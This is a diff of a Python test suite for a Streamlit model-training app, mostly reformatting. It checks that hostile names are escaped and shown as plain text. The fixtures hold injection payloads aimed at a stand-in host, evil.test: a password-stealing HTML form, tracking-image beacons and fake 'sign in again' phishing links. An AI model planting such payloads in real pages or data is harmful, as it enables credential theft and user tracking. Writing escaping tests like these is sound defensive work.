@@ -26,20 +26,27 @@ from streamlit import dataframe_util
 from streamlit.testing.v1 import AppTest
 
 from core.access import accounts
+from core.access.accounts import EDITOR, VIEWER
+from core.config import Settings, load_settings
 from core.data import uploads
+from core.errors import UserError
 from core.evaluation import metrics
 from core.inference import approval
 from core.jobs import runs
+from core.store.db import (
+    AugmentationPreset,
+    Dataset,
+    EpochMetric,
+    ModelApproval,
+    Prediction,
+    RunStatus,
+    make_sessionmaker,
+    utcnow,
+)
 from core.store.runs import model_path
 from core.training import presets
-from core.access.accounts import EDITOR, VIEWER
-from core.transforms.augment import AugmentParams
-from core.config import Settings, load_settings
-from core.store.db import (
-    AugmentationPreset, Dataset, EpochMetric, ModelApproval, Prediction, RunStatus, make_sessionmaker, utcnow,
-)
-from core.errors import UserError
 from core.training.run_config import RunConfig
+from core.transforms.augment import AugmentParams
 from pages._common import md_text
 from tests.server import free_port, start_app, stop_app, wait_healthy
 from tests.synthetic import synthetic_image
@@ -49,12 +56,13 @@ APP = str(ROOT / "streamlit_app.py")
 CHROMIUM = Path("/usr/bin/chromium")
 HOST = "evil.test"
 # A zip entry cannot hold "/" in a name, so the HTML ones spell it &#47; (a browser decodes it).
-FORM_FILE = ('<form action="&#47;&#47;evil.test&#47;steal"><input name=pw type=password>'
-             '<button>Sign in again 001.png')
+FORM_FILE = '<form action="&#47;&#47;evil.test&#47;steal"><input name=pw type=password><button>Sign in again 001.png'
 IMG_FILE = '<img src="&#47;&#47;evil.test&#47;i.png"> 002.png'
 DATASET = "![x](http://evil.test/beacon.png) [Session expired: sign in](http://evil.test/phish)"
-CLASSES = ['<img src="&#47;&#47;evil.test&#47;c.png">CLL',
-           '<a href="https:evil.test">[FL: sign in](https:evil.test) :red[FL] $x^2$ www.evil.test']
+CLASSES = [
+    '<img src="&#47;&#47;evil.test&#47;c.png">CLL',
+    '<a href="https:evil.test">[FL: sign in](https:evil.test) :red[FL] $x^2$ www.evil.test',
+]
 GROUPS = ['<img src="&#47;&#47;evil.test&#47;g.png">g1', "[g2](https:evil.test)", "g3", "g4"]
 PRESET = '[Preset: sign in](https:evil.test) <img src="&#47;&#47;evil.test&#47;p.png">'
 USER = '<img src="&#47;&#47;evil.test&#47;u.png">[ana](https:evil.test)@evil.test'
@@ -62,18 +70,47 @@ WEIGHTS = "[weights](http://evil.test/w) :streamlit: -> :material_home: .pt"
 ERROR = f"Image {FORM_FILE} could not be read: ![e](http://evil.test/e.png)"
 # What an editor types (a run's name and notes, an approval's note) and what the API takes as free
 # text (a run's device): tracking images, links that ask to sign in again, HTML.
-RUN_NAME = '![r](http://evil.test/run.png) [Sign in again](http://evil.test/login) <b>run</b>'
+RUN_NAME = "![r](http://evil.test/run.png) [Sign in again](http://evil.test/login) <b>run</b>"
 NOTES = '<img src="&#47;&#47;evil.test&#47;n.png"> [Session expired: sign in](http://evil.test/n) ![n](http:evil.test)'
 APPROVAL_NOTE = '![a](http://evil.test/a.png) <a href="http:&#47;&#47;evil.test">[Sign in again](http:evil.test)</a>'
-DEVICE = 'cuda:0 ![d](http://evil.test/device.png) [Sign in again](http://evil.test/d) <i>gpu</i>'
+DEVICE = "cuda:0 ![d](http://evil.test/device.png) [Sign in again](http://evil.test/d) <i>gpu</i>"
 FILES = [FORM_FILE, IMG_FILE, "003.png", "004.png"]
-NAMES = [FORM_FILE, IMG_FILE, DATASET, *CLASSES, GROUPS[0], GROUPS[1], PRESET, USER, WEIGHTS, ERROR, RUN_NAME, NOTES,
-         APPROVAL_NOTE, DEVICE]
+NAMES = [
+    FORM_FILE,
+    IMG_FILE,
+    DATASET,
+    *CLASSES,
+    GROUPS[0],
+    GROUPS[1],
+    PRESET,
+    USER,
+    WEIGHTS,
+    ERROR,
+    RUN_NAME,
+    NOTES,
+    APPROVAL_NOTE,
+    DEVICE,
+]
 PASSWORD = "correct horse battery"
-TINY = dict(image_size=32, epochs=1, per_class=4, batch_size=4, lr=1e-3, weights="none", device="cpu",
-            split="holdout", grouped=False)
-PAGES = ["pages/home.py", "pages/dataset.py", "pages/augmentation.py", "pages/train.py", "pages/runs.py",
-         "pages/predict.py"]
+TINY = dict(
+    image_size=32,
+    epochs=1,
+    per_class=4,
+    batch_size=4,
+    lr=1e-3,
+    weights="none",
+    device="cpu",
+    split="holdout",
+    grouped=False,
+)
+PAGES = [
+    "pages/home.py",
+    "pages/dataset.py",
+    "pages/augmentation.py",
+    "pages/train.py",
+    "pages/runs.py",
+    "pages/predict.py",
+]
 # What Streamlit draws as plain text (measured in chromium, Streamlit 1.67): JSON, code, st.text and
 # tables whole, and of select boxes and multiselects all but the label and help (their options are
 # text). plotly is checked on its own. Ids and addresses are never drawn.
@@ -105,8 +142,9 @@ def record_runs(Session, cfg: Settings) -> int:
     with a hostile name, notes, device and approvals; the id of the succeeded one (the newest, so the
     Runs page opens on it)."""
     with Session.begin() as s:
-        queued, failed, done = (runs.create_runs(s, cfg, RunConfig(dataset=DATASET, **TINY, seed=seed))[0]
-                                for seed in (0, 1, 2))
+        queued, failed, done = (
+            runs.create_runs(s, cfg, RunConfig(dataset=DATASET, **TINY, seed=seed))[0] for seed in (0, 1, 2)
+        )
         queued.created_by = failed.created_by = done.created_by = USER
         failed.status, failed.error = RunStatus.failed, ERROR
         done.status, done.weights_used = RunStatus.succeeded, WEIGHTS
@@ -121,15 +159,38 @@ def record_runs(Session, cfg: Settings) -> int:
             true = classes.index(image.label)
             wrong = image.original_name.split("/")[-1] in (FORM_FILE, IMG_FILE)
             predicted = 1 - true if wrong else true
-            s.add(Prediction(run_id=done.id, image_id=image.id, true_label=true, predicted_label=predicted,
-                             probabilities=[0.3, 0.7] if predicted else [0.7, 0.3]))
-        s.add(EpochMetric(run_id=done.id, epoch=1, train_loss=0.7, train_accuracy=0.5, val_loss=0.7, val_accuracy=0.5,
-                          seconds=1.0, images_per_second=8.0))
+            s.add(
+                Prediction(
+                    run_id=done.id,
+                    image_id=image.id,
+                    true_label=true,
+                    predicted_label=predicted,
+                    probabilities=[0.3, 0.7] if predicted else [0.7, 0.3],
+                )
+            )
+        s.add(
+            EpochMetric(
+                run_id=done.id,
+                epoch=1,
+                train_loss=0.7,
+                train_accuracy=0.5,
+                val_loss=0.7,
+                val_accuracy=0.5,
+                seconds=1.0,
+                images_per_second=8.0,
+            )
+        )
         done.summary = {"test_accuracy": 0.5, "best_epoch": 1, "n_train": 4, "n_val": 2, "n_test": 8}
         done_id = done.id
         # Approved twice by a hostile user with a hostile note: the first approval replaced by the second.
-        approved = {"class_set": approval.class_set_key(classes), "run_id": done_id, "model_sha256": "0" * 64,
-                    "run_label": f"run {done_id} · {RUN_NAME}", "note": APPROVAL_NOTE, "approved_by": USER}
+        approved = {
+            "class_set": approval.class_set_key(classes),
+            "run_id": done_id,
+            "model_sha256": "0" * 64,
+            "run_label": f"run {done_id} · {RUN_NAME}",
+            "note": APPROVAL_NOTE,
+            "approved_by": USER,
+        }
         first, second = ModelApproval(**approved), ModelApproval(**approved)
         s.add_all([first, second])
         s.flush()
@@ -154,8 +215,12 @@ def hostile(tmp_path_factory) -> tuple[Settings, int, Path]:
     done_id = record_runs(Session, cfg)
     digest = accounts.hash_password(PASSWORD)
     accounts_file = tmp / "accounts.toml"
-    accounts.write_accounts(accounts_file, accounts.Accounts({
-        "ana": accounts.Account("ana", digest, EDITOR), "vic": accounts.Account("vic", digest, VIEWER)}))
+    accounts.write_accounts(
+        accounts_file,
+        accounts.Accounts(
+            {"ana": accounts.Account("ana", digest, EDITOR), "vic": accounts.Account("vic", digest, VIEWER)}
+        ),
+    )
     return cfg, done_id, accounts_file
 
 
@@ -194,9 +259,13 @@ def markdown_strings(at: AppTest) -> list[tuple[str, str]]:
         kind = type(proto).__name__
         for where, value in strings(proto):
             leaf = where.rsplit(".", 1)[-1]
-            if (kind in PLAIN_ELEMENTS or (kind in OPTIONS_AS_TEXT and leaf not in ("label", "help"))
-                    or leaf.endswith("id") or leaf == "url"
-                    or leaf == "placeholder"):  # an input's placeholder attribute: the browser draws it as text
+            if (
+                kind in PLAIN_ELEMENTS
+                or (kind in OPTIONS_AS_TEXT and leaf not in ("label", "help"))
+                or leaf.endswith("id")
+                or leaf == "url"
+                or leaf == "placeholder"
+            ):  # an input's placeholder attribute: the browser draws it as text
                 continue
             found.append((f"{kind}{where}", value))
         if kind == "Table":  # st.table renders Markdown in every cell, header and index
@@ -315,8 +384,16 @@ def test_the_approval_history_and_the_comparison_show_names_as_text(hostile, mon
     assert list(differences.loc["Device"]) == [DEVICE, "cpu"]
 
 
-@pytest.mark.parametrize("name", [*NAMES, "1. :streamlit: :material/home: :material_home: :smile: a -> b >= c",
-                                  "- a@b.org  www.x.org\n# second line", "+ plus", "H~2~O ~~gone~~ &amp; | a | b |"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        *NAMES,
+        "1. :streamlit: :material/home: :material_home: :smile: a -> b >= c",
+        "- a@b.org  www.x.org\n# second line",
+        "+ plus",
+        "H~2~O ~~gone~~ &amp; | a | b |",
+    ],
+)
 def test_escaped_names_keep_no_markup(name):
     escaped = md_text(name)
     special = r"[\\`*_\[\]()#!|~<>:$&]"
@@ -386,7 +463,7 @@ DOM_PROBLEMS = """() => {
     }
     for (const p of document.querySelectorAll("input[type=password]")) bad.push("password input");
     return bad;
-}""" % HOST
+}""".replace("%s", HOST)  # the JavaScript is full of braces an f-string would need doubled
 # The page's text as a reader sees it (plotly's SVG text included), without the invisible word joiners.
 SHOWN_TEXT = """() => (document.body.innerText + " " + [...document.querySelectorAll(".js-plotly-plot text")]
     .map(t => t.textContent).join(" ")).replaceAll("\\u2060", "")"""
@@ -417,8 +494,11 @@ def test_a_browser_shows_hostile_names_as_text(server):
     url, done_id = server
     requested_off_host = []
     with sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True,
-                                    args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
+        browser = p.chromium.launch(
+            executable_path=str(CHROMIUM),
+            headless=True,
+            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
+        )
         page = browser.new_page(viewport={"width": 1440, "height": 2400})
         page.set_default_timeout(60_000)
 
@@ -440,8 +520,9 @@ def test_a_browser_shows_hostile_names_as_text(server):
             page.wait_for_load_state("networkidle")
             expect(page.get_by_test_id("stStatusWidget")).to_have_count(0, timeout=30_000)
             try:  # Markdown's plugins load on demand: wait until the names are drawn, one way or another
-                page.wait_for_function(f"names => names.every(n => ({SHOWN_TEXT})().includes(n))", arg=names,
-                                       timeout=10_000)
+                page.wait_for_function(
+                    f"names => names.every(n => ({SHOWN_TEXT})().includes(n))", arg=names, timeout=10_000
+                )
             except PlaywrightTimeout:
                 pass
             assert page.evaluate(DOM_PROBLEMS) == [], path
